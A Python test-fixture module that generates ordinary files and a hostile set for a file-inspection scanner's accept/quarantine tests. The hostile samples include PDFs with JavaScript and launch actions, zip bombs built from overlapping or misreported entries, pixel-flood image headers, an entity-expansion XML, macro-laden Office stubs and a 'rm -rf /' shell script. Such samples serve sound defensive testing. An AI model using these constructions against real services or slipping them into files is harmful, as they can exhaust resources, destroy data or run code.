"""Small real files of many kinds and makers, and the hostile set, made from scratch at test time.

Every sample says what inspection must answer. Nothing here is stored in the repository as a binary: a scanner
on a developer's machine would object to the hostile half, and rightly.
"""

import gzip
import io
import json
import struct
import tarfile
import wave
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from functools import cache
from os.path import dirname

import docx
import openpyxl
import pikepdf
import pylopdf_fonts_zh_cn
import typst
from odf import opendocument, table, text
from PIL import Image, ImageDraw

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
PROSE = "关于印发《档案管理办法》的通知。各营业厅：现将办法印发给你们，请遵照执行。\n"


@dataclass(frozen=True)
class Sample:
    """`reason` is empty when accepted. `maker` names the origin of the bytes."""

    name: str
    data: bytes
    verdict: str
    reason: str = ""
    kind: str = ""
    maker: str = "hand"
    pages: int | None = None


def make_corpus() -> Iterator[Sample]:
    """Every sample: ordinary ones first."""
    yield from make_ordinary()
    yield from make_hostile()


def make_ordinary() -> Iterator[Sample]:
    """Files that must be accepted."""
    for maker in (_pdfs, _images, _texts, _mails, _office, _sounds, _containers):
        for name, data, kind, origin, pages in maker():
            yield Sample(name, data, "accepted", "", kind, origin, pages)


def make_hostile() -> Iterator[Sample]:
    """Files that must be quarantined, each for the one reason given."""
    for maker in (_bad_pdfs, _bad_containers, _bad_images, _bad_others):
        for name, data, reason in maker():
            yield Sample(name, data, "quarantined", reason)


Row = tuple[str, bytes, str, str, int | None]
Bad = tuple[str, bytes, str]


# Ordinary files


def _pdfs() -> Iterator[Row]:
    yield "通知.pdf", typeset("= 通知\n" + PROSE * 30 + "\n#pagebreak()\n" + PROSE), "pdf", "typst", 2
    yield "archival.pdf", typeset("= 归档\n" + PROSE, standard="a-2b"), "pdf", "typst", 1
    yield "blank.PDF", _saved(pikepdf.new(), pages=3), "pdf", "pikepdf", 3
    compact = io.BytesIO()
    with pikepdf.open(io.BytesIO(typeset(PROSE))) as pdf:
        pdf.save(compact, object_stream_mode=pikepdf.ObjectStreamMode.generate, linearize=True)
    yield "linear.pdf", compact.getvalue(), "pdf", "pikepdf", 1
    yield "scan.pdf", _encoded(picture(), "PDF"), "pdf", "Pillow", 1
    yield "by-hand.pdf", hand_made_pdf(), "pdf", "hand", 1
    yield (
        "about-scripts.pdf",
        hand_made_pdf("/Info << /Title (A page about /JavaScript and /Launch) >>"),
        "pdf",
        "hand",
        1,
    )


def _images() -> Iterator[Row]:
    for name, form, kind in (
        ("照片.jpg", "JPEG", "jpeg"),
        ("photo.jpeg", "JPEG", "jpeg"),
        ("shot.png", "PNG", "png"),
        ("fax.tif", "TIFF", "tiff"),
        ("old.gif", "GIF", "gif"),
        ("paint.bmp", "BMP", "bmp"),
        ("web.webp", "WEBP", "webp"),
    ):
        yield name, _encoded(picture(), form), kind, "Pillow", 1
    target = io.BytesIO()
    picture().save(
        target, "TIFF", save_all=True, append_images=[picture(), picture()], compression="tiff_lzw"
    )
    yield "three-pages.tiff", target.getvalue(), "tiff", "Pillow", 3
    yield "grey16.png", _encoded(Image.new("I;16", (40, 30), 30_000), "PNG"), "png", "Pillow", 1
    yield "print.jpg", _encoded(picture().convert("CMYK"), "JPEG"), "jpeg", "Pillow", 1
    yield "clear.png", _encoded(Image.new("RGBA", (60, 40), (10, 20, 30, 100)), "PNG"), "png", "Pillow", 1
    yield "one-pixel.png", png(1, 1, rows=b"\x00\x80"), "png", "zlib", 1


def _texts() -> Iterator[Row]:
    yield "说明.txt", PROSE.encode(), "text", "utf-8", 1
    yield "老系统.txt", PROSE.encode("gb18030"), "text", "gb18030", 1
    yield "notepad.txt", PROSE.encode("utf-16"), "text", "utf-16", 1
    yield "bom.txt", PROSE.encode("utf-8-sig"), "text", "utf-8", 1
    yield "ascii.log", b"2026-11-23 09:00:00 started\n" * 50, "text", "hand", 2
    yield "looks-like-code.txt", b"import os\ndef main():\n    return os.name\n" * 5, "text", "hand", 1
    yield (
        "MZ-minutes.txt",
        b"MZ was present at the meeting, and so was everyone else who had to be there.\n",
        "text",
        "hand",
        1,
    )
    yield "名册.csv", "工号,姓名,单位\n0001,张三,城东营业厅\n".encode("gbk"), "csv", "gbk", 1
    yield "table.csv", b"a,b,c\r\n1,2,3\r\n", "csv", "hand", 1
    yield "data.json", json.dumps({"全宗": "0042", "件": [1, 2, 3]}).encode(), "json", "json", 1
    yield (
        "meta.xml",
        f'<?xml version="1.0" encoding="UTF-8"?><档案><件>{PROSE}</件></档案>'.encode(),
        "xml",
        "hand",
        1,
    )
    yield "no-namespace.xml", b"<a><xi:include href='b.xml'/></a>", "xml", "hand", 1
    yield "gb.xml", '<?xml version="1.0" encoding="GB2312"?><a>档案</a>'.encode("gb2312"), "xml", "hand", 1
    yield "letter.rtf", rb"{\rtf1\ansi\deff0{\fonttbl{\f0 Arial;}}\f0\fs24 Dear Sir\par}", "rtf", "hand", None


def _mails() -> Iterator[Row]:
    yield "来函.eml", _mail().as_bytes(), "eml", "email", 1
    with_paper = _mail()
    with_paper.add_attachment(typeset(PROSE), maintype="application", subtype="pdf", filename="附件.pdf")
    yield "with-attachment.eml", with_paper.as_bytes(), "eml", "email", 1
    rich = _mail()
    rich.add_alternative(f"<html><body><p>{PROSE}</p></body></html>", subtype="html")
    yield "rich.eml", rich.as_bytes(), "eml", "email", 1


def _office() -> Iterator[Row]:
    yield "报告.docx", word(), "docx", "python-docx", 1
    yield "台账.xlsx", workbook(), "xlsx", "openpyxl", 1
    yield "slides.pptx", slides(), "pptx", "zipfile", 1
    yield "note.odt", _open_document(opendocument.OpenDocumentText(), text.P(text=PROSE)), "odt", "odfpy", 1
    yield "sheet.ods", _open_sheet(), "ods", "odfpy", 1
    yield "talk.odp", _open_document(opendocument.OpenDocumentPresentation(), None), "odp", "odfpy", 1
    yield "old.doc", compound("WordDocument", "1Table"), "doc", "hand", None
    yield "old.xls", compound("Workbook"), "xls", "hand", None
    yield "old.ppt", compound("PowerPoint Document"), "ppt", "hand", None


def _sounds() -> Iterator[Row]:
    yield "录音.wav", sound(), "wav", "wave", None
    yield (
        "call.mp3",
        b"\xff\xfb\x90\x00" + bytes(413) + (b"\xff\xfb\x90\x00" + bytes(413)) * 4,
        "mp3",
        "hand",
        None,
    )
    yield (
        "tagged.mp3",
        b"ID3\x03\x00\x00\x00\x00\x00\x0a" + bytes(10) + b"\xff\xfb\x90\x00" + bytes(413),
        "mp3",
        "hand",
        None,
    )
    yield "call.ogg", _ogg(b"\x01vorbis" + bytes(23)), "ogg", "hand", None
    yield "call.opus", _ogg(b"OpusHead\x01\x01" + bytes(9)), "ogg", "hand", None
    yield (
        "call.flac",
        b"fLaC\x80\x00\x00\x22\x10\x00\x10\x00" + bytes(6) + b"\x0a\xc4\x42\xf0" + bytes(40),
        "flac",
        "hand",
        None,
    )
    yield "phone.amr", b"#!AMR\n" + bytes(64), "amr", "hand", None
    yield "voice.m4a", _movie(b"M4A "), "m4a", "hand", None
    yield "voice-only.m4a", _movie(b"isom"), "m4a", "hand", None
    yield "clip.mp4", _movie(b"mp42"), "mp4", "hand", None


def _containers() -> Iterator[Row]:
    yield "归档.zip", zipped({"a.txt": b"one" * 100, "文件/b.pdf": hand_made_pdf()}), "zip", "zipfile", None
    yield "with-office.zip", zipped({"报告.docx": word(), "x.bin": bytes(range(256))}), "zip", "zipfile", None
    yield "empty-inside.zip", zipped({}), "zip", "zipfile", None
    yield (
        "invoice.ofd",
        zipped({"OFD.xml": b"<?xml version='1.0'?><OFD/>", "Doc_0/Document.xml": b"<D/>"}),
        "ofd",
        "zipfile",
        None,
    )
    book = {"mimetype": b"application/epub+zip", "META-INF/container.xml": b"<container/>"}
    yield "manual.epub", zipped(book, stored=True), "epub", "zipfile", None


# Hostile files


def _bad_pdfs() -> Iterator[Bad]:
    yield (
        "locked.pdf",
        _saved(pikepdf.new(), encryption=pikepdf.Encryption(owner="o", user="u")),
        "encrypted_pdf",
    )
    yield (
        "restricted.pdf",
        _saved(pikepdf.new(), encryption=pikepdf.Encryption(owner="o", user="")),
        "encrypted_pdf",
    )
    for name, action, reason in (
        ("script", {"/S": "/JavaScript", "/JS": "app.alert(1)"}, "scripted_pdf"),
        ("launch", {"/S": "/Launch", "/F": "cmd.exe"}, "pdf_launch_action"),
        ("submit", {"/S": "/SubmitForm", "/F": "http://collector.invalid/"}, "pdf_launch_action"),
        ("import", {"/S": "/ImportData", "/F": "x.fdf"}, "pdf_launch_action"),
        ("goto-embedded", {"/S": "/GoToE"}, "pdf_embedded_file"),
    ):
        yield f"{name}.pdf", _acting(action), reason
        yield f"{name}-packed.pdf", _acting(action, packed=True), reason
    yield (
        "escaped-name.pdf",
        hand_made_pdf("", catalog="/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "scripted_pdf",
    )
    yield "form.pdf", hand_made_pdf("", catalog="/AcroForm << /Fields [] /XFA (x) >>"), "scripted_pdf"
    yield (
        "annotated.pdf",
        hand_made_pdf("", page="/Annots [ << /Subtype /RichMedia >> ]"),
        "pdf_embedded_file",
    )
    attached = pikepdf.new()
    attached.add_blank_page()
    attached.attachments["x.txt"] = pikepdf.AttachedFileSpec(attached, b"inside", filename="x.txt")
    yield "attached.pdf", _saved(attached, pages=0), "pdf_embedded_file"
    whole = typeset(PROSE * 20)
    yield "cut-off.pdf", whole[: len(whole) // 2], "malformed_pdf"
    yield "cut-at-the-end.pdf", whole[:-40], "malformed_pdf"
    yield "header-only.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "malformed_pdf"
    yield (
        "no-pages.pdf",
        hand_made_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids []      /Count 0"),
        "malformed_pdf",
    )
    yield "deep.pdf", hand_made_pdf("", catalog="/JS " + "[" * 5000 + "]" * 5000), "malformed_pdf"


def _bad_containers() -> Iterator[Bad]:
    yield "bomb.zip", zipped({"zeros": bytes(64 << 20)}), "archive_bomb"
    yield "many.zip", _many_entries(12_000), "archive_bomb"
    yield "overlap.zip", overlapping(), "archive_bomb"
    yield "liar.zip", lying(), "archive_bomb"
    yield "bomb.docx", zipped({**_word_parts(), "word/media/x.bin": bytes(64 << 20)}), "archive_bomb"
    yield "nested.zip", zipped({"inner.zip": zipped({"a.txt": b"a"})}), "nested_archive"
    yield "nested-renamed.zip", zipped({"harmless.dat": zipped({"a.txt": b"a"})}), "nested_archive"
    yield "nested-gz.zip", zipped({"a.gz": gzip.compress(b"a", mtime=0)}), "nested_archive"
    yield "nested-tar.zip", zipped({"a.tar": _tar()}), "nested_archive"
    yield "program.zip", zipped({"setup.exe": windows_program()}), "executable"
    yield "macro-inside.zip", zipped({"x.docm": macro_word()}), "unsafe_attachment"
    yield "locked.zip", _marked_encrypted(zipped({"a.txt": b"secret" * 10})), "encrypted_archive"
    yield "cut.zip", zipped({"a.txt": b"a" * 1000})[:-30], "malformed_file"
    yield "corrupt.zip", _corrupted(zipped({"a.txt": PROSE.encode() * 100})), "malformed_file"
    yield (
        "app.zip",
        zipped({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
        "executable",
    )
    yield (
        "library.jar",
        zipped({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
        "executable",
    )
    yield "macros.docm", macro_word(), "macros"
    yield "macros.docx", macro_word(), "macros"
    yield (
        "basic.odt",
        zipped(
            {"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/Standard/M.xml": b"<x/>"},
            stored=True,
        ),
        "macros",
    )
    yield (
        "locked.odt",
        zipped(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "META-INF/manifest.xml": b"<m:encryption-data/>",
            },
            stored=True,
        ),
        "encrypted_office",
    )
    yield (
        "template.docx",
        zipped({**_word_parts(), "word/_rels/settings.xml.rels": _REMOTE_TEMPLATE}),
        "external_reference",
    )
    yield (
        "package.docx",
        zipped({**_word_parts(), "word/embeddings/o.bin": compound("\x01Ole10Native")}),
        "embedded_object",
    )
    yield "locked.docx", compound("EncryptionInfo", "EncryptedPackage"), "encrypted_office"
    yield "macros.doc", compound("WordDocument", "Macros", "VBA", "_VBA_PROJECT"), "macros"
    yield "setup.msi", compound("SummaryInformation"), "unlisted_type"


def _bad_images() -> Iterator[Bad]:
    yield "flood.png", png(60_000, 60_000, rows=b""), "pixel_flood"
    yield "flood.tif", _tiff_header(50_000, 50_000), "pixel_flood"
    yield (
        "flood.bmp",
        b"BM" + struct.pack("<IHHIIiiHHIIiiII", 100, 0, 0, 54, 40, 50_000, 50_000, 1, 24, 0, 0, 0, 0, 0, 0),
        "pixel_flood",
    )
    yield (
        "flood.gif",
        b"GIF89a"
        + struct.pack("<HH", 65_000, 65_000)
        + b"\x00\x00\x00\x2c"
        + struct.pack("<HHHHB", 0, 0, 65_000, 65_000, 0)
        + b"\x02\x00\x3b",
        "pixel_flood",
    )
    yield "cut.png", _encoded(picture(), "PNG")[:-200], "malformed_file"
    photo = _encoded(picture(), "JPEG")
    yield "cut.jpg", photo[: len(photo) // 2], "malformed_file"


def _bad_others() -> Iterator[Bad]:
    yield "empty.pdf", b"", "empty_file"
    yield "setup.exe", windows_program(), "executable"
    yield "invoice.pdf", windows_program(), "executable"
    yield "tool.jpg", _linux_program(), "executable"
    yield "run.txt", b"#!/bin/sh\nrm -rf /\n", "executable"
    yield "page.html", b"<!DOCTYPE html><html><body>hi</body></html>", "active_content"
    yield "page.txt", b"<html><script>alert(1)</script></html>", "active_content"
    yield "drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "active_content"
    yield (
        "drawing.xml",
        b'<?xml version="1.0"?><x:svg xmlns:x="http://www.w3.org/2000/svg"/>',
        "active_content",
    )
    yield "laughs.xml", b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>', "active_content"
    yield "broken.xml", b'<?xml version="1.0"?><a><b></a>', "malformed_file"
    yield "broken.json", b'{"a": ', "malformed_file"
    yield "deep.json", b"[" * 200_000, "malformed_file"
    yield "photo.png", _encoded(picture(), "JPEG"), "extension_mismatch"
    yield "paper.docx", typeset(PROSE), "extension_mismatch"
    yield "paper.pdf", PROSE.encode(), "extension_mismatch"
    yield "sound.mp3", sound(), "extension_mismatch"
    yield "no-extension", typeset(PROSE), "extension_mismatch"
    yield "script.py", b"print('hello')\n", "unlisted_type"
    yield "noise.bin", bytes(range(256)) * 40, "unlisted_type"
    yield "archive.gz", gzip.compress(PROSE.encode(), mtime=0), "unlisted_type"
    yield "archive.rar", b"Rar!\x1a\x07\x01\x00" + bytes(50), "unlisted_type"
    yield "object.rtf", rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", "embedded_object"
    yield "cut.wav", sound()[:1000], "malformed_file"
    for name, data in (
        ("program.exe", windows_program()),
        ("macro.docm", macro_word()),
        ("locked.pdf", dict_of(_bad_pdfs)["locked.pdf"]),
    ):
        mail = _mail()
        mail.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
        yield f"{name}.eml", mail.as_bytes(), "unsafe_attachment"
    yield "not-a-mail.eml", PROSE.encode(), "malformed_file"


_REMOTE_TEMPLATE = (
    b'<Relationships><Relationship Id="r" TargetMode="External" Target="https://templates.invalid/t.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)


# Makers, for tests that want one file


def dict_of(maker: object) -> dict[str, bytes]:
    """Name to bytes of one of the makers above."""
    return {row[0]: row[1] for row in maker()}  # type: ignore[operator]


@cache
def typeset(markup: str, standard: str = "") -> bytes:
    """A PDF typeset in Chinese."""
    return typst.compile(
        b'#set text(font: "Noto Sans SC")\n' + markup.encode(),
        font_paths=[dirname(pylopdf_fonts_zh_cn.__file__)],
        ignore_system_fonts=True,
        **({"pdf_standards": standard} if standard else {}),
    )


def hand_made_pdf(extra: str = "", *, catalog: str = "", page: str = "") -> bytes:
    """One page, classic cross-reference table, written byte by byte."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] {page} >>",
    ]
    body, offsets = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(body))
        body += f"{number} 0 obj\n{content}\nendobj\n".encode()
    start = len(body)
    body += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    body += b"".join(f"{offset:010} 00000 n \n".encode() for offset in offsets)
    return (
        body
        + f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {extra} >>\nstartxref\n{start}\n%%EOF\n".encode()
    )


def packed_pdf(*, padding: int) -> bytes:
    """One page whose objects lie in an object stream, followed there by so many spaces."""
    parts = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
    parts.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>")
    starts = [sum(len(part) + 1 for part in parts[:number]) for number in range(3)]
    index = " ".join(f"{number + 1} {start}" for number, start in enumerate(starts)).encode() + b" "
    packer = zlib.compressobj(9)
    packed = packer.compress(index + b" ".join(parts))
    for _ in range(padding >> 20):
        packed += packer.compress(b" " * (1 << 20))
    packed += packer.flush()
    body = b"%PDF-1.5\n"
    stream_at = len(body)
    head = f"4 0 obj\n<< /Type /ObjStm /N 3 /First {len(index)} /Filter /FlateDecode /Length {len(packed)} >>\nstream\n"
    body += head.encode() + packed + b"\nendstream\nendobj\n"
    table_at = len(body)
    rows = [(0, 0, 65535), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, stream_at, 0), (1, table_at, 0)]
    table_rows = b"".join(struct.pack(">BIH", *row) for row in rows)
    head = f"5 0 obj\n<< /Type /XRef /Size 6 /Root 1 0 R /W [1 4 2] /Length {len(table_rows)} >>\nstream\n"
    body += head.encode() + table_rows + b"\nendstream\nendobj\n"
    return body + f"startxref\n{table_at}\n%%EOF\n".encode()


def png(width: int, height: int, *, rows: bytes) -> bytes:
    """A grey PNG whose header declares this size, whatever the rows hold."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def picture() -> Image.Image:
    """A small drawing with enough detail to compress badly."""
    image = Image.effect_noise((160, 120), 60).convert("RGB")
    ImageDraw.Draw(image).ellipse((20, 20, 120, 100), fill=(180, 40, 40))
    return image


def sound(seconds: float = 0.5) -> bytes:
    """A telephone-quality WAV."""
    target = io.BytesIO()
    with wave.open(target, "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(8000)
        out.writeframes(b"".join(struct.pack("<h", (at * 37) % 2000) for at in range(int(8000 * seconds))))
    return target.getvalue()


def zipped(members: dict[str, bytes], *, stored: bool = False) -> bytes:
    """A zip of these members, in this order."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as out:
        for name, data in members.items():
            out.writestr(zipfile.ZipInfo(name), data, out.compression)
    return target.getvalue()


def word(prose: str = PROSE) -> bytes:
    """A Word document with a heading, a paragraph and a table."""
    document = docx.Document()
    document.add_heading("报告", 1)
    document.add_paragraph(prose)
    document.add_table(2, 2).cell(0, 0).text = "单元格"
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def workbook() -> bytes:
    """A workbook with one sheet."""
    book = openpyxl.Workbook()
    book.active.title = "台账"
    book.active.append(["件号", "题名"])
    book.active.append([1, "关于归档的通知"])
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def slides() -> bytes:
    """The least that is a presentation with one slide."""
    drawing = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    main = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    return zipped(
        {
            "[Content_Types].xml": f'<Types><Override PartName="/ppt/presentation.xml" ContentType="{main}"/></Types>'.encode(),
            "ppt/presentation.xml": b"<p/>",
            "ppt/slides/slide1.xml": f"<s {drawing}><a:p><a:r><a:t>第一页 题目</a:t></a:r></a:p></s>".encode(),
        }
    )


def macro_word() -> bytes:
    """A Word document with a macro project."""
    return zipped(
        {
            **_word_parts("vnd.ms-word.document.macroEnabled.main+xml", "application/"),
            "word/vbaProject.bin": compound("VBA", "_VBA_PROJECT"),
        }
    )


def compound(*streams: str) -> bytes:
    """A compound file whose directory names these streams."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<II", header, 44, 1, 1)
    struct.pack_into("<I", header, 56, 4096)
    struct.pack_into("<IIII", header, 60, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<109I", header, 76, 0, *([0xFFFFFFFF] * 108))
    sectors = -(-(len(streams) + 1) // 4)
    chain = [0xFFFFFFFD, *range(2, sectors + 1), 0xFFFFFFFE]
    table_sector = struct.pack("<128I", *(chain + [0xFFFFFFFF] * (128 - len(chain))))
    directory = bytearray()
    for index, name in enumerate(("Root Entry", *streams)):
        entry = bytearray(128)
        encoded = name.encode("utf-16-le")
        entry[: len(encoded)] = encoded
        struct.pack_into("<HBB", entry, 64, len(encoded) + 2, 2 if index else 5, 1)
        struct.pack_into("<III", entry, 68, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
        directory += entry
    return bytes(header) + table_sector + bytes(directory).ljust(sectors * 512, b"\x00")


def windows_program() -> bytes:
    """The headers of a Windows program."""
    stub = bytearray(b"MZ".ljust(64, b"\x00"))
    struct.pack_into("<I", stub, 60, 64)
    return bytes(stub) + b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22) + bytes(512)


def overlapping() -> bytes:
    """Many directory entries over one body: each reader unpacks the same kernel again and again."""
    body = zipped({"a": bytes(1 << 20)})
    directory = body.index(b"PK\x01\x02")
    end = body.rindex(b"PK\x05\x06")
    entry = body[directory:end]
    entries = b"".join(entry[:46] + f"{chr(97 + n)}".encode() for n in range(20))
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 20, 20, len(entries), directory, 0)
    return body[:directory] + entries + tail


def lying() -> bytes:
    """A member that unpacks to far more than the directory says."""
    body = bytearray(zipped({"a": bytes(4 << 20)}))
    struct.pack_into("<I", body, body.index(b"PK\x01\x02") + 24, 100)
    return bytes(body)


def _word_parts(main: str = "wordprocessingml.document.main+xml", prefix: str = "") -> dict[str, bytes]:
    prefix = prefix or "application/vnd.openxmlformats-officedocument."
    return {
        "[Content_Types].xml": f'<Types><Override PartName="/word/document.xml" ContentType="{prefix}{main}"/></Types>'.encode(),
        "word/document.xml": b"<w/>",
    }


def _saved(pdf: pikepdf.Pdf, *, pages: int = 1, **options: object) -> bytes:
    for _ in range(pages):
        pdf.add_blank_page(page_size=(200, 300))
    target = io.BytesIO()
    pdf.save(target, **options)
    return target.getvalue()


def _acting(action: dict[str, str], *, packed: bool = False) -> bytes:
    pdf = pikepdf.new()
    values = {
        key: pikepdf.Name(value) if value.startswith("/") else pikepdf.String(value)
        for key, value in action.items()
    }
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(values))
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    return _saved(pdf, object_stream_mode=mode)


def _encoded(image: Image.Image, form: str) -> bytes:
    target = io.BytesIO()
    image.save(target, form)
    return target.getvalue()


def _mail() -> EmailMessage:
    message = EmailMessage()
    message["From"] = "张三 <zhang@example.invalid>"
    message["To"] = "archives@example.invalid"
    message["Date"] = "Mon, 23 Nov 2026 09:00:00 +0800"
    message["Subject"] = "关于移交档案的函"
    message.set_content(PROSE)
    return message


def _open_document(document: object, paragraph: object) -> bytes:
    if paragraph is not None:
        document.text.addElement(paragraph)  # type: ignore[attr-defined]
    target = io.BytesIO()
    document.write(target)  # type: ignore[attr-defined]
    return target.getvalue()


def _open_sheet() -> bytes:
    document = opendocument.OpenDocumentSpreadsheet()
    sheet, row, cell = table.Table(name="台账"), table.TableRow(), table.TableCell()
    cell.addElement(text.P(text="题名"))
    row.addElement(cell)
    sheet.addElement(row)
    document.spreadsheet.addElement(sheet)
    return _open_document(document, None)


def _ogg(packet: bytes) -> bytes:
    return b"OggS\x00\x02" + bytes(8) + b"\x01\x00\x00\x00" + bytes(8) + bytes([1, len(packet)]) + packet


def _movie(brand: bytes) -> bytes:
    return (
        struct.pack(">I", 24)
        + b"ftyp"
        + brand
        + bytes(4)
        + b"isommp42"
        + struct.pack(">I", 16)
        + b"mdat"
        + bytes(8)
    )


def _tiff_header(width: int, height: int) -> bytes:
    tags = [
        (256, 4, width),
        (257, 4, height),
        (258, 3, 8),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, 8),
        (277, 3, 1),
        (278, 4, height),
        (279, 4, 10),
    ]
    entries = b"".join(struct.pack("<HHII", tag, form, 1, value) for tag, form, value in tags)
    return b"II*\x00" + struct.pack("<IH", 8, len(tags)) + entries + bytes(4)


def _linux_program() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(40)


def _many_entries(count: int) -> bytes:
    return zipped({f"{number}.txt": b"" for number in range(count)}, stored=True)


def _marked_encrypted(body: bytes) -> bytes:
    marked = bytearray(body)
    marked[6] |= 1
    marked[marked.index(b"PK\x01\x02") + 8] |= 1
    return bytes(marked)


def _corrupted(body: bytes) -> bytes:
    damaged = bytearray(body)
    damaged[len(body) // 2 - 20] ^= 0x55
    return bytes(damaged)


def _tar() -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as out:
        out.addfile(tarfile.TarInfo("a.txt"))
    return target.getvalue()
